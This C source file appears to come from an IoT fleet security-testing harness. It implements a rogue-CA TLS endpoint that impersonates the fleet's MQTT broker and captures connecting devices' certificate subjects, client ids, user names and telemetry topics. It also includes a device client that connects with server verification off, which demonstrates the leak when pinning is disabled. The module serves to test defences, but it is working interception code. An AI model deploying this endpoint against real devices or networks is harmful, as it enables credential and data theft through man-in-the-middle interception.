/* attacks/rogue.c — the rogue-CA TLS endpoint and the device client aimed at it (see rogue.h). */
#include "attacks/rogue.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <mbedtls/ctr_drbg.h>
#include <mbedtls/entropy.h>
#include <mbedtls/error.h>
#include <mbedtls/net_sockets.h>
#include <mbedtls/ssl.h>

#include "attacks/attack_int.h"
#include "cloud/pki.h"
#include "devices/mqtt_codec.h"
#include "sim/alloc.h"

/* Per-client bounds (ms), so one silent client cannot hold the rogue. */
#define ROGUE_HS_MS 3000
#define ROGUE_CONNECT_MS 2000
#define ROGUE_DATA_MS 1000
#define ROGUE_RX_MAX 8192   /* bytes of MQTT read per client: enough for CONNECT + a few PUBLISHes */
#define ROGUE_LOG_LINES 16  /* lines of per-client evidence kept (the first ones) */

struct fdl_atk_rogue {
    mbedtls_entropy_context ent;
    mbedtls_ctr_drbg_context drbg;
    mbedtls_x509_crt chain, ca;
    mbedtls_pk_context key;
    mbedtls_ssl_config conf;
    int listen_fd;
    pthread_t th;
    int running;
    atomic_int stop;
    pthread_mutex_t mu;        /* guards st and log */
    fdl_atk_rogue_stats st;
    char log[ROGUE_LOG_LINES][240];
    unsigned n_log;
};

typedef struct rogue_conn {
    int fd;
    uint64_t deadline_us;
} rogue_conn;

static void rlog(fdl_atk_rogue *g, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void rlog(fdl_atk_rogue *g, const char *fmt, ...)
{
    pthread_mutex_lock(&g->mu);
    if (g->n_log < ROGUE_LOG_LINES) {
        va_list ap;
        va_start(ap, fmt);
        vsnprintf(g->log[g->n_log++], sizeof g->log[0], fmt, ap);
        va_end(ap);
    }
    pthread_mutex_unlock(&g->mu);
}

int fdl_atk_rogue_new(const char *pki_dir, fdl_atk_rogue **out, char *err, size_t errcap)
{
    *out = NULL;
    if (fdl_tls_global_init() != 0) {
        snprintf(err, errcap, "PSA crypto init failed");
        return -1;
    }
    /* Default opts on purpose: the fleet's own names, so only the signatures differ. */
    fdl_pki_status ps = fdl_pki_setup_soft(pki_dir, NULL);
    if (ps != FDL_PKI_OK) {
        snprintf(err, errcap, "rogue CA in %s: %s (%s)", pki_dir, fdl_pki_strerror(ps), fdl_pki_last_error());
        return -1;
    }
    fdl_atk_rogue *g = fdl_calloc(1, sizeof *g);
    if (!g) {
        snprintf(err, errcap, "out of memory");
        return -1;
    }
    g->listen_fd = -1;
    pthread_mutex_init(&g->mu, NULL);
    mbedtls_entropy_init(&g->ent);
    mbedtls_ctr_drbg_init(&g->drbg);
    mbedtls_x509_crt_init(&g->chain);
    mbedtls_x509_crt_init(&g->ca);
    mbedtls_pk_init(&g->key);
    mbedtls_ssl_config_init(&g->conf);
    char p[1200];
    int ret = mbedtls_ctr_drbg_seed(&g->drbg, mbedtls_entropy_func, &g->ent, (const unsigned char *)"rogue", 5);
    snprintf(p, sizeof p, "%s/%s", pki_dir, FDL_PKI_SERVER_PEM);
    if (!ret)
        ret = mbedtls_x509_crt_parse_file(&g->chain, p);
    snprintf(p, sizeof p, "%s/%s", pki_dir, FDL_PKI_INTERMEDIATE_PEM);
    if (!ret)
        ret = mbedtls_x509_crt_parse_file(&g->chain, p);
    snprintf(p, sizeof p, "%s/%s", pki_dir, FDL_PKI_CHAIN_PEM);
    if (!ret)
        ret = mbedtls_x509_crt_parse_file(&g->ca, p);
    snprintf(p, sizeof p, "%s/%s", pki_dir, FDL_PKI_SERVER_KEY_PEM);
    if (!ret)
        ret = mbedtls_pk_parse_keyfile(&g->key, p, NULL, mbedtls_ctr_drbg_random, &g->drbg);
    if (!ret)
        ret = mbedtls_ssl_config_defaults(&g->conf, MBEDTLS_SSL_IS_SERVER, MBEDTLS_SSL_TRANSPORT_STREAM,
                                          MBEDTLS_SSL_PRESET_DEFAULT);
    if (!ret) {
        /* A MITM offers whatever a victim might accept. */
        mbedtls_ssl_conf_min_tls_version(&g->conf, MBEDTLS_SSL_VERSION_TLS1_2);
        mbedtls_ssl_conf_max_tls_version(&g->conf, MBEDTLS_SSL_VERSION_TLS1_3);
        mbedtls_ssl_conf_rng(&g->conf, mbedtls_ctr_drbg_random, &g->drbg);
        /* Ask for a client certificate to learn who connects; never insist. */
        mbedtls_ssl_conf_authmode(&g->conf, MBEDTLS_SSL_VERIFY_OPTIONAL);
        mbedtls_ssl_conf_ca_chain(&g->conf, &g->ca, NULL);
        ret = mbedtls_ssl_conf_own_cert(&g->conf, &g->chain, &g->key);
    }
    if (ret) {
        char eb[100];
        mbedtls_strerror(ret, eb, sizeof eb);
        snprintf(err, errcap, "rogue TLS set-up: %s", eb);
        fdl_atk_rogue_free(g);
        return -1;
    }
    *out = g;
    return 0;
}

/* ---- one client ------------------------------------------------------------- */

static int left_ms(const rogue_conn *c)
{
    int64_t l = (int64_t)(c->deadline_us - fdl_atk_now_us()) / 1000;
    return l > 0 ? (int)l : 0;
}

static int bio_send(void *ctx, const unsigned char *b, size_t n)
{
    rogue_conn *c = ctx;
    struct pollfd p = {.fd = c->fd, .events = POLLOUT};
    if (poll(&p, 1, left_ms(c)) != 1)
        return MBEDTLS_ERR_SSL_TIMEOUT;
    ssize_t w = send(c->fd, b, n, MSG_NOSIGNAL);
    return w >= 0 ? (int)w : MBEDTLS_ERR_NET_SEND_FAILED;
}

static int bio_recv(void *ctx, unsigned char *b, size_t n)
{
    rogue_conn *c = ctx;
    struct pollfd p = {.fd = c->fd, .events = POLLIN};
    if (poll(&p, 1, left_ms(c)) != 1)
        return MBEDTLS_ERR_SSL_TIMEOUT;
    ssize_t k = recv(c->fd, b, n, 0);
    if (k < 0)
        return MBEDTLS_ERR_NET_RECV_FAILED;
    return (int)k;   /* 0 = EOF */
}

/* Reads MQTT packets until one is complete; handles it. Returns the packet type, 0 on timeout/EOF. */
static int read_packet(mbedtls_ssl_context *ssl, uint8_t *buf, size_t *len, fdl_mqtt_packet *p, size_t *used)
{
    for (;;) {
        fdl_mqtt_status st = fdl_mqtt_decode(buf, *len, ROGUE_RX_MAX, p, used);
        if (st == FDL_MQTT_OK)
            return p->type;
        if (st != FDL_MQTT_NEED_MORE || *len >= ROGUE_RX_MAX)
            return -1;
        int k = mbedtls_ssl_read(ssl, buf + *len, ROGUE_RX_MAX - *len);
        if (k == MBEDTLS_ERR_SSL_WANT_READ || k == MBEDTLS_ERR_SSL_WANT_WRITE ||
            k == MBEDTLS_ERR_SSL_RECEIVED_NEW_SESSION_TICKET)
            continue;
        if (k <= 0)
            return 0;
        *len += (size_t)k;
    }
}

static void copy_str(char *dst, size_t cap, fdl_mqtt_str s)
{
    size_t n = s.len < cap - 1 ? s.len : cap - 1;
    memcpy(dst, s.ptr, n);
    dst[n] = '\0';
}

static void serve(fdl_atk_rogue *g, int fd, const char *peer)
{
    rogue_conn c = {.fd = fd, .deadline_us = fdl_atk_now_us() + ROGUE_HS_MS * 1000u};
    mbedtls_ssl_context ssl;
    mbedtls_ssl_init(&ssl);
    uint8_t *buf = fdl_malloc(ROGUE_RX_MAX);
    if (!buf || mbedtls_ssl_setup(&ssl, &g->conf) != 0)
        goto cleanup;
    mbedtls_ssl_set_bio(&ssl, &c, bio_send, bio_recv, NULL);
    int ret;
    do
        ret = mbedtls_ssl_handshake(&ssl);
    while ((ret == MBEDTLS_ERR_SSL_WANT_READ || ret == MBEDTLS_ERR_SSL_WANT_WRITE) && left_ms(&c) > 0 &&
           !atomic_load(&g->stop));
    if (ret != 0) {
        char eb[120];
        mbedtls_strerror(ret, eb, sizeof eb);
        pthread_mutex_lock(&g->mu);
        g->st.handshake_failed++;
        snprintf(g->st.last_error, sizeof g->st.last_error, "%s", eb);
        pthread_mutex_unlock(&g->mu);
        rlog(g, "rogue: client %s: TLS handshake failed: %s (-0x%04x)", peer, eb, (unsigned)-ret);
        goto cleanup;
    }
    char subject[128] = "";
    const mbedtls_x509_crt *pc = mbedtls_ssl_get_peer_cert(&ssl);
    if (pc && mbedtls_x509_dn_gets(subject, sizeof subject, &pc->subject) < 0)
        subject[0] = '\0';
    pthread_mutex_lock(&g->mu);
    g->st.handshakes++;
    if (pc) {
        g->st.client_certs++;
        snprintf(g->st.last_peer_subject, sizeof g->st.last_peer_subject, "%s", subject);
    }
    pthread_mutex_unlock(&g->mu);
    rlog(g, "rogue: client %s completed the %s handshake%s%s", peer, mbedtls_ssl_get_version(&ssl),
         pc ? " presenting certificate " : " without a client certificate", pc ? subject : "");

    size_t len = 0, used = 0;
    fdl_mqtt_packet p;
    c.deadline_us = fdl_atk_now_us() + ROGUE_CONNECT_MS * 1000u;
    int type = read_packet(&ssl, buf, &len, &p, &used);
    if (type != FDL_MQTT_CONNECT) {
        rlog(g, "rogue: client %s sent no MQTT CONNECT (%s)", peer, type == 0 ? "closed or timed out" : "other data");
        goto cleanup;
    }
    char cid[128], user[64] = "";
    copy_str(cid, sizeof cid, p.u.connect.client_id);
    if (p.u.connect.has_username)
        copy_str(user, sizeof user, p.u.connect.username);
    pthread_mutex_lock(&g->mu);
    g->st.connects++;
    snprintf(g->st.last_client_id, sizeof g->st.last_client_id, "%s", cid);
    pthread_mutex_unlock(&g->mu);
    rlog(g, "rogue: client %s sent MQTT CONNECT: client id \"%s\"%s%s%s", peer, cid, user[0] ? ", user name \"" : "",
         user, user[0] ? "\"" : "");
    /* Answer like a broker so the victim goes on talking. */
    uint8_t ack[4];
    size_t an = 0;
    if (fdl_mqtt_encode_connack(ack, sizeof ack, false, 0, &an) == FDL_MQTT_OK)
        (void)mbedtls_ssl_write(&ssl, ack, an);
    memmove(buf, buf + used, len - used);
    len -= used;
    c.deadline_us = fdl_atk_now_us() + ROGUE_DATA_MS * 1000u;
    for (int i = 0; i < 32 && left_ms(&c) > 0; i++) {
        type = read_packet(&ssl, buf, &len, &p, &used);
        if (type <= 0)
            break;
        if (type == FDL_MQTT_PUBLISH) {
            char topic[128];
            copy_str(topic, sizeof topic, p.u.publish.topic);
            pthread_mutex_lock(&g->mu);
            g->st.publishes++;
            pthread_mutex_unlock(&g->mu);
            rlog(g, "rogue: client %s published on %s (%zu bytes)", peer, topic, p.u.publish.payload_len);
            if (p.u.publish.qos == 1 && fdl_mqtt_encode_ack(ack, sizeof ack, FDL_MQTT_PUBACK, p.u.publish.packet_id,
                                                            &an) == FDL_MQTT_OK)
                (void)mbedtls_ssl_write(&ssl, ack, an);
        }
        memmove(buf, buf + used, len - used);
        len -= used;
    }
    (void)mbedtls_ssl_close_notify(&ssl);
cleanup:
    mbedtls_ssl_free(&ssl);
    fdl_free(buf);
}

static void *rogue_main(void *arg)
{
    fdl_atk_rogue *g = arg;
    while (!atomic_load(&g->stop)) {
        struct pollfd p = {.fd = g->listen_fd, .events = POLLIN};
        if (poll(&p, 1, 100) != 1)
            continue;
        struct sockaddr_in sa;
        socklen_t sl = sizeof sa;
        int fd = accept4(g->listen_fd, (struct sockaddr *)&sa, &sl, SOCK_CLOEXEC);
        if (fd < 0)
            continue;
        char peer[INET_ADDRSTRLEN + 8] = "?";
        inet_ntop(AF_INET, &sa.sin_addr, peer, INET_ADDRSTRLEN);
        snprintf(peer + strlen(peer), 8, ":%u", (unsigned)ntohs(sa.sin_port));
        pthread_mutex_lock(&g->mu);
        g->st.accepted++;
        pthread_mutex_unlock(&g->mu);
        serve(g, fd, peer);
        close(fd);
    }
    return NULL;
}

int fdl_atk_rogue_start(fdl_atk_rogue *g, const char *host, uint16_t port, uint16_t *bound, char *err,
                        size_t errcap)
{
    if (g->running) {
        snprintf(err, errcap, "already running");
        return -1;
    }
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
    if (inet_pton(AF_INET, host ? host : "127.0.0.1", &sa.sin_addr) != 1) {
        snprintf(err, errcap, "bad address %s", host);
        return -1;
    }
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int one = 1;
    socklen_t sl = sizeof sa;
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) != 0 ||
        bind(fd, (struct sockaddr *)&sa, sizeof sa) != 0 || listen(fd, 64) != 0 ||
        getsockname(fd, (struct sockaddr *)&sa, &sl) != 0) {
        snprintf(err, errcap, "listen on %s:%u: %s", host ? host : "127.0.0.1", (unsigned)port, strerror(errno));
        if (fd >= 0)
            close(fd);
        return -1;
    }
    g->listen_fd = fd;
    atomic_store(&g->stop, 0);
    if (pthread_create(&g->th, NULL, rogue_main, g) != 0) {
        snprintf(err, errcap, "thread: %s", strerror(errno));
        close(fd);
        g->listen_fd = -1;
        return -1;
    }
    g->running = 1;
    if (bound)
        *bound = ntohs(sa.sin_port);
    return 0;
}

void fdl_atk_rogue_stop(fdl_atk_rogue *g)
{
    if (!g || !g->running)
        return;
    atomic_store(&g->stop, 1);
    pthread_join(g->th, NULL);
    g->running = 0;
    close(g->listen_fd);
    g->listen_fd = -1;
}

void fdl_atk_rogue_stats_get(fdl_atk_rogue *g, fdl_atk_rogue_stats *out)
{
    pthread_mutex_lock(&g->mu);
    *out = g->st;
    pthread_mutex_unlock(&g->mu);
}

int fdl_atk_rogue_result(fdl_atk_rogue *g, fdl_atk_result *r)
{
    fdl_atk_result_begin(r);
    fdl_atk_rogue_stats s;
    fdl_atk_rogue_stats_get(g, &s);
    fdl_atk_note(r, "rogue endpoint (certificate from another CA with the fleet's names): %u TCP connections, "
                    "%u TLS handshakes completed, %u failed, %u client certificates seen, %u MQTT CONNECTs read, "
                    "%u PUBLISHes read",
                 s.accepted, s.handshakes, s.handshake_failed, s.client_certs, s.connects, s.publishes);
    pthread_mutex_lock(&g->mu);
    for (unsigned i = 0; i < g->n_log; i++)
        fdl_atk_note(r, "%s", g->log[i]);
    pthread_mutex_unlock(&g->mu);
    if (s.connects)
        fdl_atk_note(r, "credentials leaked to the MITM: client id \"%s\"", s.last_client_id);
    fdl_atk_result_end(r, s.connects > 0, FDL_ATK_STAGE_TLS);
    return r->succeeded;
}

void fdl_atk_rogue_free(fdl_atk_rogue *g)
{
    if (!g)
        return;
    fdl_atk_rogue_stop(g);
    mbedtls_ssl_config_free(&g->conf);
    mbedtls_pk_free(&g->key);
    mbedtls_x509_crt_free(&g->ca);
    mbedtls_x509_crt_free(&g->chain);
    mbedtls_ctr_drbg_free(&g->drbg);
    mbedtls_entropy_free(&g->ent);
    pthread_mutex_destroy(&g->mu);
    fdl_free(g);
}

/* ---- the device side --------------------------------------------------------- */

int fdl_atk_device_connect(const fdl_atk_target *t, const char *device_id, int verify_none, fdl_atk_result *r)
{
    atk_env e;
    fdl_atk_loop *l = NULL;
    fdl_identity idn;
    int have_idn = 0, stage = FDL_ATK_STAGE_SETUP;
    fdl_atk_result_begin(r);
    if (atk_env_open(&e, t, r) != 0)
        goto cleanup;
    if (atk_env_identity(&e, device_id, &idn, r) != 0)
        goto cleanup;
    have_idn = 1;
    if (!(l = fdl_atk_loop_new()))
        goto cleanup;
    fdl_tls_client_cfg tls = atk_env_tls(&e, &idn.cert, idn.key);
    tls.verify_none = verify_none ? 1 : 0;
    fdl_atk_note(r, "device %s connects to %s:%u with %s", device_id, t->host, (unsigned)t->port,
                 verify_none ? "server verification OFF (pinning off: MBEDTLS_SSL_VERIFY_NONE)"
                             : "the fleet root as its only trust anchor (pinning on)");
    fdl_atk_sess *s = atk_env_sess(&e, l, device_id, &tls, 0);
    stage = fdl_atk_sess_connect(s, ATK_CONNECT_MS, "device", r);
    if (stage == FDL_ATK_STAGE_NONE) {
        /* What firmware does next: its telemetry, now in the hands of whoever answered. */
        char topic[96], msg[160];
        snprintf(topic, sizeof topic, "telemetry/%s", device_id);
        atk_telemetry("1", msg, sizeof msg);
        int acked = fdl_atk_sess_publish(s, topic, msg, strlen(msg), ATK_ACK_MS);
        fdl_atk_note(r, "device published its telemetry on %s: PUBACK %s", topic, acked > 0 ? "received" : "missing");
    }
cleanup:
    fdl_atk_loop_free(l);
    if (have_idn)
        fdl_identity_free(&idn);
    atk_env_close(&e);
    fdl_atk_result_end(r, stage == FDL_ATK_STAGE_NONE, stage);
    return r->succeeded;
}
